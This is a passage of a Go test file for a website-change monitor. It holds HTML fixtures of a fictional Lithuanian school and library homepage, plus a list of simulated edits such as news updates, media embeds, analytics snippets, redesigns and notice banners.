package content_test

import (
	"strings"
	"testing"

	"github.com/budi-monitor/budi/internal/website/content"
)

// Two pages of a sixth set, each changed in ways of its own: of a school on WordPress
// and of a library on Joomla, whole as such pages are sent. It was written by somebody
// who had seen neither the rules nor the other sets.
const (
	sixthHome   = "https://www.mokykla.example.lt/"
	sixthSchool = `<!DOCTYPE html>
<html lang="lt-LT" prefix="og: https://ogp.me/ns#">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="profile" href="https://gmpg.org/xfn/11">
<title>Pagrindinis - Ąžuolyno gimnazija</title>
<meta name="description" content="Ąžuolyno gimnazija – šiuolaikiška, bendruomeniška, kiekvieno mokinio pažangos siekianti mokykla Vidupio mieste.">
<link rel="canonical" href="https://www.mokykla.example.lt/">
<meta property="og:locale" content="lt_LT"><meta property="og:type" content="website"><meta property="og:title" content="Ąžuolyno gimnazija"><meta property="og:url" content="https://www.mokykla.example.lt/"><meta property="og:image" content="https://www.mokykla.example.lt/wp-content/uploads/2025/08/fasadas-1024x683.jpg">
<script type="application/ld+json" class="yoast-schema-graph">{"@context":"https://schema.org","@graph":[{"@type":"WebPage","@id":"https://www.mokykla.example.lt/","url":"https://www.mokykla.example.lt/","name":"Pagrindinis - Ąžuolyno gimnazija","isPartOf":{"@id":"https://www.mokykla.example.lt/#website"},"inLanguage":"lt-LT"}]}</script>
<link rel="dns-prefetch" href="//fonts.googleapis.com">
<link rel="alternate" type="application/rss+xml" title="Ąžuolyno gimnazija &raquo; Įrašų RSS srautas" href="https://www.mokykla.example.lt/feed/">
<script>window._wpemojiSettings={"baseUrl":"https:\/\/s.w.org\/images\/core\/emoji\/15.0.3\/72x72\/","ext":".png","source":{"concatemoji":"https:\/\/www.mokykla.example.lt\/wp-includes\/js\/wp-emoji-release.min.js?ver=6.6.2"}};</script>
<link rel="stylesheet" id="wp-block-library-css" href="https://www.mokykla.example.lt/wp-includes/css/dist/block-library/style.min.css?ver=6.6.2" media="all">
<link rel="stylesheet" id="mokykla-style-css" href="https://www.mokykla.example.lt/wp-content/themes/education-hub/style.css?ver=2.4" media="all">
<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Open+Sans%3A600%2C400&ver=2.4">
<style>.screen-reader-text{border:0;clip:rect(1px,1px,1px,1px);height:1px;margin:-1px;overflow:hidden;position:absolute;width:1px}.skip-link{left:-9999em}</style>
<script src="https://www.mokykla.example.lt/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-7H2KQ0XW1P"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-7H2KQ0XW1P');</script>
<link rel="icon" href="https://www.mokykla.example.lt/wp-content/uploads/2023/02/cropped-herbas-32x32.png" sizes="32x32">
</head>
<body class="home page-template-default page page-id-12 wp-custom-logo site-layout-fluid">
<div id="page" class="hfeed site">
<a class="skip-link screen-reader-text" href="#content">Pereiti prie turinio</a>
<div id="tophead"><div class="container"><span class="tel"><a href="tel:+37061200345">+370 612 00 345</a></span> <span class="mail"><a href="mailto:rastine@mokykla.example.lt">rastine@mokykla.example.lt</a></span>
<div class="quick-links"><a href="https://dienynas.tamo.lt/">Elektroninis dienynas</a> <a href="https://outlook.office.com/">Paštas</a> <a href="https://www.facebook.com/azuolynogimnazija">Facebook</a></div></div></div>
<header id="masthead" class="site-header"><div class="container"><a href="https://www.mokykla.example.lt/" class="custom-logo-link"><img src="https://www.mokykla.example.lt/wp-content/uploads/2023/02/herbas.png" class="custom-logo" alt="Ąžuolyno gimnazija"></a>
<p class="site-title"><a href="https://www.mokykla.example.lt/">Ąžuolyno gimnazija</a></p></div></header>
<nav id="site-navigation" class="main-navigation"><ul id="menu-pagrindinis" class="menu">
<li class="menu-item"><a href="https://www.mokykla.example.lt/naujienos/">Naujienos</a></li>
<li class="menu-item menu-item-has-children"><a href="https://www.mokykla.example.lt/apie-gimnazija/">Apie gimnaziją</a><ul class="sub-menu"><li><a href="https://www.mokykla.example.lt/istorija/">Istorija</a></li><li><a href="https://www.mokykla.example.lt/simboliai/">Simboliai</a></li></ul></li>
<li class="menu-item"><a href="https://www.mokykla.example.lt/struktura-ir-kontaktai/">Struktūra ir kontaktai</a></li>
<li class="menu-item"><a href="https://www.mokykla.example.lt/administracine-informacija/">Administracinė informacija</a></li>
<li class="menu-item"><a href="https://www.mokykla.example.lt/priemimas/">Priėmimas</a></li>
<li class="menu-item"><a href="https://www.mokykla.example.lt/ugdymas/">Ugdymas</a></li>
<li class="menu-item"><a href="https://www.mokykla.example.lt/korupcijos-prevencija/">Korupcijos prevencija</a></li>
</ul></nav>
<div class="slider"><div class="slide"><img src="https://www.mokykla.example.lt/wp-content/uploads/2026/09/rugsejo-1-oji.jpg" alt="Rugsėjo 1-osios šventė"><h2>Mokykla, kurioje gera augti</h2></div></div>
<div id="content" class="site-content"><div class="container"><main id="main" class="site-main">
<h2 class="section-title">Naujienos</h2>
<article class="post-4511 post"><h3><a href="https://www.mokykla.example.lt/2026/11/27/matematikos-olimpiada/">Rajono matematikos olimpiadoje – trys prizinės vietos</a></h3><span class="posted-on">2026-11-27</span><img src="https://www.mokykla.example.lt/wp-content/uploads/2026/11/olimpiada-300x200.jpg" alt=""><p>Lapkričio 26 dieną mūsų gimnazijos mokiniai dalyvavo rajono matematikos olimpiadoje. Sveikiname IIb klasės mokinę Ugnę Petraitytę, laimėjusią pirmąją vietą, ir dėkojame mokytojai Rasai Jankauskienei.</p></article>
<article class="post-4498 post"><h3><a href="https://www.mokykla.example.lt/2026/11/24/karjeros-diena/">Karjeros diena su tėveliais</a></h3><span class="posted-on">2026-11-24</span><p>Penktadienį gimnazijoje svečiavosi mokinių tėvai: gydytoja, ugniagesys, programuotojas ir ūkininkė. Jie papasakojo, kuo žavi ir kuo sunkus jų darbas, atsakė į daugybę klausimų.</p></article>
<article class="post-4480 post"><h3><a href="https://www.mokykla.example.lt/2026/11/16/tolerancijos-diena/">Paminėjome Tolerancijos dieną</a></h3><span class="posted-on">2026-11-16</span><p>Lapkričio 16-ąją gimnazijos langus papuošė paukščiai, simbolizuojantys skirtingumą ir draugystę. Pilietiškumo pamokose kalbėjome apie pagarbą vieni kitiems.</p></article>
<article class="post-4466 post"><h3><a href="https://www.mokykla.example.lt/2026/11/10/tevu-susirinkimas/">Kviečiame į visuotinį tėvų susirinkimą</a></h3><span class="posted-on">2026-11-10</span><p>Gerbiami tėveliai, lapkričio 18 d. 17.30 val. aktų salėje vyks visuotinis susirinkimas. Aptarsime pirmojo pusmečio pasiekimus, maitinimą ir saugų eismą prie mokyklos.</p></article>
<p><a class="more" href="https://www.mokykla.example.lt/naujienos/">Visos naujienos</a></p>
<section class="video"><h2 class="section-title">Filmas apie gimnaziją</h2><iframe width="560" height="315" src="https://www.youtube.com/embed/Qm3xT0aB7yE?feature=oembed" title="Ąžuolyno gimnazija" allowfullscreen></iframe></section>
</main>
<aside id="sidebar-primary" class="widget-area">
<div class="widget"><h3 class="widget-title">Tėvams</h3><ul><li><a href="https://www.mokykla.example.lt/wp-content/uploads/2026/09/pamoku-tvarkarastis.pdf">Pamokų tvarkaraštis</a></li><li><a href="https://www.mokykla.example.lt/wp-content/uploads/2026/11/valgiarastis-48-sav.pdf">Valgiaraštis</a></li><li><a href="https://www.mokykla.example.lt/autobusai/">Mokyklinių autobusų maršrutai</a></li></ul></div>
<div class="widget"><h3 class="widget-title">Nuorodos</h3><ul><li><a href="https://smsm.lrv.lt/">Švietimo, mokslo ir sporto ministerija</a></li><li><a href="https://www.nsa.smsm.lt/">Nacionalinė švietimo agentūra</a></li><li><a href="https://www.vidupis.lt/">Vidupio rajono savivaldybė</a></li></ul></div>
<div class="widget"><iframe src="https://www.facebook.com/plugins/page.php?href=https%3A%2F%2Fwww.facebook.com%2Fazuolynogimnazija&tabs=timeline&width=300&height=400" width="300" height="400" style="border:none;overflow:hidden"></iframe></div>
</aside></div></div>
<footer id="colophon" class="site-footer"><div class="container">
<div class="footer-widget"><h3>Kontaktai</h3><p>Vidupio rajono Ąžuolyno gimnazija<br>Savivaldybės biudžetinė įstaiga<br>Ąžuolų g. 14, LT-74001 Vidupis<br>Kodas 190012345. Duomenys kaupiami ir saugomi Juridinių asmenų registre</p></div>
<div class="footer-widget"><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2290.1!2d22.76!3d55.08" width="300" height="200" style="border:0" loading="lazy"></iframe></div>
<form class="search-form" role="search" method="get" action="https://www.mokykla.example.lt/"><input type="search" name="s" placeholder="Ieškoti"><button>Ieškoti</button></form>
<p class="copyright">&copy; 2026 Ąžuolyno gimnazija. Sprendimas: <a href="https://www.svetainesmokykloms.lt/">Svetainės mokykloms</a></p>
</div></footer></div>
<script src="https://www.mokykla.example.lt/wp-content/themes/education-hub/js/navigation.min.js?ver=20120206"></script>
<script src="https://www.mokykla.example.lt/wp-content/themes/education-hub/third-party/cycle2/js/jquery.cycle2.min.js?ver=2.1.6"></script>
</body>
</html>`
	sixthLibrary = `<!doctype html>
<html lang="lt-lt" dir="ltr">
<head>
  <base href="https://www.mokykla.example.lt/">
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1, shrink-to-fit=no">
  <meta name="description" content="Paežerių rajono savivaldybės viešoji biblioteka: knygos, renginiai, parodos, skaitmeninės paslaugos">
  <meta name="generator" content="Joomla! - Open Source Content Management">
  <title>Paežerių viešoji biblioteka - Pradžia</title>
  <link href="/media/templates/site/cassiopeia/images/favicon.ico" rel="icon" type="image/vnd.microsoft.icon">
  <link href="/index.php?format=feed&amp;type=rss" rel="alternate" type="application/rss+xml" title="RSS">
  <link href="/media/vendor/fontawesome-free/css/fontawesome.min.css?6.3.0" rel="stylesheet">
  <link href="/media/templates/site/cassiopeia/css/template.min.css?a1b2c3" rel="stylesheet">
  <style>:root{--hue:214;--template-bg-light:#f0f4fb}.sliderbox{height:320px;overflow:hidden}.visually-hidden{position:absolute!important;width:1px;height:1px;clip:rect(0,0,0,0)}</style>
  <script type="application/json" class="joomla-script-options new">{"joomla.jtext":{"ERROR":"Klaida","MESSAGE":"Pranešimas"},"system.paths":{"root":"","rootFull":"https:\/\/www.mokykla.example.lt\/","base":"","baseFull":"https:\/\/www.mokykla.example.lt\/"},"csrf.token":"7d9a0f3c1b"}</script>
  <script src="/media/system/js/core.min.js?37ffe4186289eba9c5df81bea44080aff77b9684"></script>
  <script src="/media/vendor/bootstrap/js/collapse.min.js?5.3.2" type="module"></script>
  <script>var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);_paq.push(['enableLinkTracking']);(function(){var u="https://statistika.example.lt/";_paq.push(['setTrackerUrl',u+'matomo.php']);_paq.push(['setSiteId','4']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];g.async=true;g.src=u+'matomo.js';s.parentNode.insertBefore(g,s);})();</script>
</head>
<body class="site com_content wrapper-static view-featured no-layout no-task itemid-101">
<header class="header container-header full-width">
  <div class="navbar-brand"><a class="brand-logo" href="/"><img src="/images/logo/biblioteka.svg" alt="Paežerių viešoji biblioteka"></a></div>
  <nav class="navbar navbar-expand-lg" aria-label="Meniu"><ul class="mod-menu mod-list nav">
    <li class="nav-item item-101 default current active"><a href="/index.php" aria-current="page">Pradžia</a></li>
    <li class="nav-item item-110"><a href="/index.php/apie-mus">Apie mus</a></li>
    <li class="nav-item item-111"><a href="/index.php/paslaugos">Paslaugos</a></li>
    <li class="nav-item item-112"><a href="/index.php/filialai">Kaimo filialai</a></li>
    <li class="nav-item item-113"><a href="/index.php/krastotyra">Kraštotyra</a></li>
    <li class="nav-item item-114"><a href="/index.php/administracine-informacija">Administracinė informacija</a></li>
    <li class="nav-item item-115"><a href="/index.php/kontaktai">Kontaktai</a></li>
  </ul></nav>
  <div class="reader"><a class="btn" href="https://paezeriai.ibiblioteka.lt/login">Skaitytojo paskyra</a> <a class="btn" href="https://www.epaslaugos.lt/">E. paslaugos</a></div>
</header>
<div class="site-grid">
<div class="container-search"><h2>Knygų paieška</h2>
  <form action="https://paezeriai.ibiblioteka.lt/metis/search" method="get" target="_blank"><input type="text" name="q" placeholder="Autorius, pavadinimas, tema"><input type="hidden" name="lib" value="PAEZ"><button type="submit">Ieškoti kataloge</button></form></div>
<main>
  <h2>Naujienos</h2>
  <div class="blog-items">
    <div class="blog-item"><h3><a href="/index.php/naujienos/812-poezijos-vakaras">Poezijos vakaras su Antanu Kalniečiu</a></h3><img src="/images/2026/kalnietis.jpg" alt="Antanas Kalnietis"><p>Lapkričio 25-osios vakarą į biblioteką sugužėjo pilna salė poezijos mylėtojų. Svečias skaitė eiles iš naujos knygos „Vandens knyga“, o vakarą muzika palydėjo kanklininkė Austėja.</p></div>
    <div class="blog-item"><h3><a href="/index.php/naujienos/809-nauji-kompiuteriai">Skaityklą papildė nauji kompiuteriai</a></h3><p>Nuo šios savaitės lankytojų laukia aštuoni nauji kompiuteriai ir spalvotas spausdintuvas. Darbuotojos mielai padės prisijungti prie elektroninių valdžios vartų.</p></div>
    <div class="blog-item"><h3><a href="/index.php/naujienos/803-paroda">Tautodailininkės Zitos Narkienės karpinių paroda</a></h3><p>Parodą galima aplankyti iki gruodžio pabaigos. Įėjimas laisvas.</p></div>
  </div>
  <h2>Renginių kalendorius</h2>
  <table class="events"><tr><th>Diena</th><th>Laikas</th><th>Renginys</th></tr>
    <tr><td>2026-12-01</td><td>10.30</td><td>Pasakų rytmetys mažyliams</td></tr>
    <tr><td>2026-12-03</td><td>17.00</td><td>Rankdarbių klubas „Siūlas“</td></tr>
    <tr><td>2026-12-08</td><td>16.00</td><td>Skaitytojų klubas: Kristinos Sabaliauskaitės romanas</td></tr>
    <tr><td>2026-12-15</td><td>14.00</td><td>Skaitmeninio raštingumo mokymai senjorams</td></tr>
  </table>
  <section class="hours"><h2>Darbo laikas</h2><p>Pirmadienį–penktadienį 9–18 val., šeštadienį 10–15 val. Paskutinė mėnesio diena – švaros diena, lankytojai neaptarnaujami.</p></section>
  <section class="support"><h2>Paremkite biblioteką</h2><p>Skirkite 1,2 proc. gyventojų pajamų mokesčio arba pervesk paramą naujoms knygoms: sąskaita LT647044001231465456, AB SEB bankas. Gavėjas – Paežerių viešoji biblioteka.</p></section>
</main>
<aside class="sidebar-right">
  <div class="card"><h3>Naudinga</h3><ul><li><a href="https://www.epaveldas.lt/">ePaveldas</a></li><li><a href="https://www.vyturys.lt/">Vyturys</a></li><li><a href="https://elvis.labiblioteka.lt/">ELVIS</a></li><li><a href="https://www.prisijungusi.lt/">Prisijungusi Lietuva</a></li></ul></div>
  <div class="card"><h3>Klauskite bibliotekininko</h3><form action="/index.php/klauskite" method="post"><input type="text" name="vardas"><input type="email" name="pastas"><textarea name="klausimas"></textarea><input type="hidden" name="7d9a0f3c1b" value="1"><button>Siųsti</button></form></div>
  <div class="card"><iframe src="https://www.facebook.com/plugins/page.php?href=https%3A%2F%2Fwww.facebook.com%2Fpaezeriubiblioteka&amp;tabs=timeline" width="340" height="500" style="border:none;overflow:hidden"></iframe></div>
</aside>
</div>
<footer class="container-footer footer full-width"><div class="grid-child">
  <p>Paežerių rajono savivaldybės viešoji biblioteka, Ežero g. 3, LT-68101 Paežeriai. Įmonės kodas 188123450. Tel. <a href="tel:+37034300123">+370 343 00 123</a>, el. paštas <a href="mailto:info@paezeriubiblioteka.lt">info@paezeriubiblioteka.lt</a></p>
  <iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12" width="300" height="200"></iframe>
  <p>Steigėja – <a href="https://www.example.lt/">Paežerių rajono savivaldybė</a>. <a href="/index.php/privatumas">Privatumo politika</a></p>
</div></footer>
</body>
</html>`
)

// part is what stands between two texts, and these.
type part struct{ from, to string }

func cut(from, to string) part { return part{from, to} }

func between(page, from, to string) string {
	_, rest, ok := strings.Cut(page, from)
	in, _, end := strings.Cut(rest, to)
	if !ok || !end {
		panic("the page has nothing from " + from + " to " + to)
	}
	return in
}

func whole(text string) func(string) string { return func(string) string { return text } }

// change puts every second one, a text, wherever the one before stands, a text or a part.
func change(pairs ...any) func(string) string {
	return func(page string) string {
		for i := 0; i < len(pairs); i += 2 {
			var old string
			switch what := pairs[i].(type) {
			case string:
				old = what
			case part:
				old = what.from + between(page, what.from, what.to) + what.to
			}
			with, ok := pairs[i+1].(string)
			if !ok || old == "" || !strings.Contains(page, old) {
				panic("the page has no " + old)
			}
			page = strings.ReplaceAll(page, old, with)
		}
		return page
	}
}

func sixthSchoolEdits() []edit {
	return []edit{
		{"news item added, the oldest dropped", change(
			`<article class="post-4511 post">`, `<article class="post-4530 post"><h3><a href="`+sixthHome+`2026/11/28/adventine-popiete/">Adventinė popietė bibliotekoje</a></h3><span class="posted-on">2026-11-28</span><img src="`+sixthHome+`wp-content/uploads/2026/11/adventas-300x200.jpg" alt=""><p>Penktokai kartu su bibliotekininke Dalia pynė advento vainikus, gėrė arbatą ir skaitė Astridos Lindgren pasakas. Ačiū visiems, atnešusiems eglės šakų!</p></article>
<article class="post-4511 post">`, cut(`<article class="post-4466 post">`, `</article>`), "")},
		{"all news replaced after the holidays", change(cut(`<article class="post-4511 post">`, `<p><a class="more"`), `<article class="post-4702 post"><h3><a href="`+sixthHome+`2027/01/08/pusmetis/">Antrasis pusmetis prasideda!</a></h3><p>Sveiki sugrįžę po žiemos atostogų. Primename, kad pasikeitė IV klasių pamokų tvarkaraštis, o valgykla dirba nuo 9 iki 14 valandos.</p></article>
<article class="post-4706 post"><h3><a href="`+sixthHome+`2027/01/11/sausio-13/">„Atmintis gyva, nes liudija“</a></h3><p>Sausio 13-osios rytą 8 valandą visuose gimnazijos languose degsime vienybės žvakutes ir prisiminsime žuvusiuosius prie Televizijos bokšto. Tankai, šūviai ir kraujas – mūsų laisvės kaina.</p></article>
<article class="post-4711 post"><h3><a href="`+sixthHome+`2027/01/12/krepsinis/">Krepšininkės – zonos nugalėtojos</a></h3><p>Merginų komanda 54:39 įveikė Kalnų progimnaziją ir pateko į finalą.</p></article>
<p><a class="more"`)},
		{"advent banner in the slider", change(cut(`<div class="slide">`, `</div>`), `<div class="slide"><a href="`+sixthHome+`kaledu-muge/"><img src="`+sixthHome+`wp-content/uploads/2026/12/muge-baneris.png" alt="Kalėdų mugė"></a><h2>Kalėdų mugė gruodžio 12 d.</h2></div><div class="slide"><img src="`+sixthHome+`wp-content/uploads/2026/12/eglute.jpg" alt=""><h2>Įžiebkime eglutę kartu</h2></div>`)},
		{"gallery with a plugin", change(`<section class="video">`, `<div class="foogallery foogallery-container foogallery-default" id="foogallery-gallery-4521"><div class="fg-item"><figure class="fg-item-inner"><a href="`+sixthHome+`wp-content/uploads/2026/11/IMG_0141.jpg" class="fg-thumb"><img data-src-fg="`+sixthHome+`wp-content/uploads/cache/2026/11/IMG_0141/2874.jpg" src="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20width%3D%22150%22%20height%3D%22150%22%3E%3C%2Fsvg%3E"></a></figure></div><div class="fg-item"><figure class="fg-item-inner"><a href="`+sixthHome+`wp-content/uploads/2026/11/IMG_0142.jpg" class="fg-thumb"><img data-src-fg="`+sixthHome+`wp-content/uploads/cache/2026/11/IMG_0142/1131.jpg" src="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20width%3D%22150%22%20height%3D%22150%22%3E%3C%2Fsvg%3E"></a></figure></div></div><section class="video">`,
			`</body>`, `<script src="`+sixthHome+`wp-content/plugins/foogallery/extensions/default-templates/shared/js/foogallery.min.js?ver=2.4.26"></script><script>var FooGallery={"lightbox":"foobox"};jQuery(function($){$(".foogallery").foogallery();});</script></body>`)},
		{"YouTube video in place of the old one", change(`https://www.youtube.com/embed/Qm3xT0aB7yE?feature=oembed`, `https://www.youtube-nocookie.com/embed/Zk2lNw81xVo?start=4`)},
		{"Vimeo film", change(`</section>
</main>`, `<div style="padding:56.25% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/884512370?h=1f2c8e&badge=0&autopause=0" frameborder="0" allow="autoplay; fullscreen" style="position:absolute;top:0;left:0;width:100%;height:100%;" title="Šimtadienis"></iframe></div><script src="https://player.vimeo.com/api/player.js"></script></section>
</main>`)},
		{"Facebook video and SDK", change(`<section class="video">`, `<div id="fb-root"></div><script async defer crossorigin="anonymous" src="https://connect.facebook.net/lt_LT/sdk.js#xfbml=1&version=v19.0" nonce="q3ZkP1aa"></script><div class="fb-video" data-href="https://www.facebook.com/azuolynogimnazija/videos/1234567890/" data-width="500"></div><section class="video">`)},
		{"Genially presentation", change(`<section class="video">`, `<h3>Virtualus atvirų durų maršrutas</h3><div style="width: 100%;"><div style="position: relative; padding-bottom: 56.25%; padding-top: 0; height: 0;"><iframe title="Atviros durys" frameborder="0" width="1200" height="675" style="position: absolute; top: 0; left: 0; width: 100%; height: 100%;" src="https://view.genially.com/65f0c1d2a4b7" allowfullscreen></iframe></div></div><section class="video">`)},
		{"Canva newsletter", change(`<section class="video">`, `<h3>Mokyklos laikraštis „Gilė“</h3><div style="position:relative;width:100%;height:0;padding-top:141%;overflow:hidden"><iframe loading="lazy" style="position:absolute;width:100%;height:100%;top:0;left:0;border:none" src="https://www.canva.com/design/DAGWx0/view?embed" allowfullscreen></iframe></div><a href="https://www.canva.com/design/DAGWx0/view?utm_content=DAGWx0&utm_campaign=designshare" target="_blank" rel="noopener">Gilė Nr. 3</a><section class="video">`)},
		{"documents in Drive, e-tar and Teams", change(`<li><a href="`+sixthHome+`autobusai/">`, `<li><a href="https://drive.google.com/file/d/1aB2c3D4e5F6/view?usp=sharing">Brandos egzaminų tvarkaraštis</a></li><li><a href="https://www.e-tar.lt/portal/lt/legalAct/9b2d3c40f5a111edbc04912defe897d1">Priėmimo tvarkos aprašas</a></li><li><a href="https://teams.microsoft.com/l/meetup-join/19%3ameeting_MjA2/0?context=%7b%22Tid%22%7d">Tėvų susirinkimas per „Teams“</a></li><li><a href="https://azuolynas-my.sharepoint.com/:b:/g/personal/rastine/Eb1">Direktoriaus įsakymai</a></li><li><a href="`+sixthHome+`autobusai/">`)},
		{"MailerLite newsletter", change(`</head>`, `<script>(function(w,d,e,u,f,l,n){w[f]=w[f]||function(){(w[f].q=w[f].q||[]).push(arguments);},l=d.createElement(e),l.async=1,l.src=u,n=d.getElementsByTagName(e)[0],n.parentNode.insertBefore(l,n);})(window,document,'script','https://assets.mailerlite.com/js/universal.js','ml');ml('account','812345');</script></head>`, `<div class="footer-widget"><h3>Kontaktai`, `<div class="ml-embedded" data-form="xK1pQe"></div><div class="footer-widget"><h3>Kontaktai`)},
		{"CookieYes banner", change(`<link rel="profile"`, `<script id="cookieyes" type="text/javascript" src="https://cdn-cookieyes.com/client_data/4f8a1c9b2d/script.js"></script><link rel="profile"`, `</footer>`, `</footer><div class="cky-consent-container cky-hide" style="display:none"><div class="cky-notice"><p>Mes naudojame slapukus, kad svetainė veiktų tinkamai ir kad žinotume, kas joje skaitoma. Galite sutikti su visais arba pasirinkti.</p><button>Sutinku su visais</button><button>Atmesti</button></div></div>`)},
		{"gtag replaced by Tag Manager", change(cut(`<script async src="https://www.googletagmanager.com`, `</script>`), "", cut(`<script>window.dataLayer`, `</script>`), `<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K7P2XQ');</script>`, `<div id="page"`, `<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-K7P2XQ" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript><div id="page"`)},
		{"WordPress and the theme updated", change(`ver=6.6.2`, `ver=6.8.1`, `ver=2.4`, `ver=3.1.0`, `site-content`, `eh-content-wrap`, `widget-area`, `eh-sidebar`, `main-navigation`, `eh-nav nav-primary`, `class="container"`, `class="eh-inner"`, `<link rel="profile"`, `<meta name="generator" content="WordPress 6.8.1"><script type="speculationrules">{"prefetch":[{"source":"document","where":{"and":[{"href_matches":"/*"}]},"eagerness":"conservative"}]}</script><link rel="profile"`)},
		{"menu reordered and grown", change(cut(`<li class="menu-item"><a href="`+sixthHome+`korupcijos-prevencija/">`, `</li>`), `<li class="menu-item menu-item-has-children"><a href="#">Veiklos sritys</a><ul class="sub-menu"><li><a href="`+sixthHome+`korupcijos-prevencija/">Korupcijos prevencija</a></li><li><a href="`+sixthHome+`pranesejų-apsauga/">Pranešėjų apsauga</a></li><li><a href="`+sixthHome+`asmens-duomenu-apsauga/">Asmens duomenų apsauga</a></li><li><a href="https://www.cvpp.eviesiejipirkimai.lt/">Viešieji pirkimai</a></li></ul></li><li class="menu-item"><a href="`+sixthHome+`socialinis-pedagogas/">Pagalba mokiniui</a></li><li class="menu-item"><a href="`+sixthHome+`en/">English</a></li>`)},
		{"greetings in the title", change(`<title>Pagrindinis - Ąžuolyno gimnazija</title>`, `<title>🎄 Šviesių šv. Kalėdų ir laimingų 2027-ųjų! 🎄 - Ąžuolyno gimnazija</title>`, `<h2>Mokykla, kurioje gera augti</h2>`, `<h2>Šviesių šventų Kalėdų!</h2><script src="`+sixthHome+`wp-content/plugins/wp-snow-effect/js/jsnow.js?ver=1.5"></script>`)},
		{"mourning, the page in grey", change(`</head>`, `<style>html{filter:grayscale(100%)}.gedulas{background:#000;color:#fff;padding:30px;text-align:center}</style></head>`, `<div class="slider">`, `<div class="gedulas"><p>Su giliu liūdesiu pranešame, kad mirė ilgametė lietuvių kalbos mokytoja Ona Vaitkienė (1951–2026).</p><p>Nuoširdžiai užjaučiame artimuosius. Šarvojama Vidupio laidojimo namuose gruodžio 1 d. nuo 12 val., išnešama gruodžio 2 d. 13 val.</p></div><div class="slider">`)},
		{"EU project logos", change(`<p class="copyright">`, `<div class="projektai"><a href="https://www.esinvesticijos.lt/"><img src="`+sixthHome+`wp-content/uploads/2026/11/finansuoja-es-nextgenerationeu.png" alt="Finansuoja Europos Sąjunga – NextGenerationEU"></a><a href="https://2021.esinvesticijos.lt/"><img src="`+sixthHome+`wp-content/uploads/2026/11/naujos-kartos-lietuva.png" alt="Naujos kartos Lietuva"></a><a href="https://commission.europa.eu/index_lt"><img src="`+sixthHome+`wp-content/uploads/2026/11/es.png" alt=""></a><p>Gimnazija įgyvendina projektą „Tūkstantmečio mokyklos II“, Nr. 10-009-P-0001. Projekto vertė – 1 204 500 Eur.</p></div><p class="copyright">`)},
		{"Erasmus+ partners abroad", change(`<article class="post-4511 post">`, `<article class="post-4533 post"><h3><a href="`+sixthHome+`erasmus/">Erasmus+: keturios šalys, viena upė</a></h3><p>Partneriai: <a href="https://zso2.suwalki.pl/">II LO w Suwałkach</a>, <a href="https://ataturkanadolu.meb.k12.tr/">Atatürk Anadolu Lisesi</a>, <a href="https://www.liceogalileisiena.edu.it/">Liceo Galilei</a>, <a href="https://school47.kyiv.ua/">Школа № 47, Київ</a>, <a href="https://erasmusrivers2026.weebly.com/">projekto svetainė</a>. Our students meet online every month to share what they have measured in their rivers.</p></article><article class="post-4511 post">`)},
		{"closed after a threat by e-mail, with a word on hackers", change(`<div class="slider">`, `<div class="alert alert-danger" style="background:#c00;color:#fff;padding:20px;font-size:24px"><strong>SVARBU!</strong> Šiandien gavome el. laišką su grasinimu, kad mokykloje padėtas sprogmuo. Mokiniai evakuoti, dirba policija, pamokos nutrauktos. Tuo pat metu įsilaužta į mokytojos „Facebook“ paskyrą: nespauskite jos vardu siunčiamų nuorodų ir pasikeiskite slaptažodžius. Programišiai iš Rusijos siunčia tokius laiškus visoms šalies mokykloms.</div><div class="slider">`)},
		{"emptied for the summer", change(cut(`<article class="post-4511 post">`, `<p><a class="more"`), `<article class="post-5010 post"><h3>Gražios vasaros!</h3><p>Gimnazijos raštinė liepos 1–rugpjūčio 16 d. nedirba. Iki pasimatymo rugsėjį!</p></article><p><a class="more"`, cut(`<section class="video">`, `</section>`), "", cut(`<div class="widget"><h3 class="widget-title">Tėvams`, `</div>`), "")},
		{"redesigned in Elementor", func(p string) string {
			body := between(p, `<main id="main" class="site-main">`, `</main>`)
			nav := between(p, `<nav id="site-navigation" class="main-navigation">`, `</nav>`)
			return change(cut(`<body`, `</body>`), `<body class="home wp-singular page elementor-default elementor-kit-7 elementor-page"><div data-elementor-type="wp-page" data-elementor-id="12" class="elementor elementor-12"><section class="elementor-section elementor-top-section" data-settings="{&quot;background_background&quot;:&quot;video&quot;,&quot;background_video_link&quot;:&quot;https:\/\/youtu.be\/Qm3xT0aB7yE&quot;}"><div class="elementor-widget-wrap"><img src="`+sixthHome+`wp-content/uploads/2026/12/logo-naujas.svg"><h1 class="elementor-heading-title">Ąžuolyno gimnazija</h1><a class="elementor-button" href="https://dienynas.tamo.lt/">Dienynas</a></div></section><div class="elementor-widget-nav-menu">`+nav+`</div><div class="elementor-posts">`+body+`</div><footer class="elementor-location-footer">Ąžuolų g. 14, LT-74001 Vidupis. Įstaigos kodas 190012345. <a href="`+sixthHome+`privatumo-politika/">Privatumo politika</a></footer></div><script src="`+sixthHome+`wp-content/plugins/elementor/assets/js/frontend.min.js?ver=3.25.4"></script><script>var elementorFrontendConfig={"environmentMode":{"edit":false},"version":"3.25.4","urls":{"assets":"https:\/\/www.mokykla.example.lt\/wp-content\/plugins\/elementor\/assets\/"}};</script></body>`)(p)
		}},
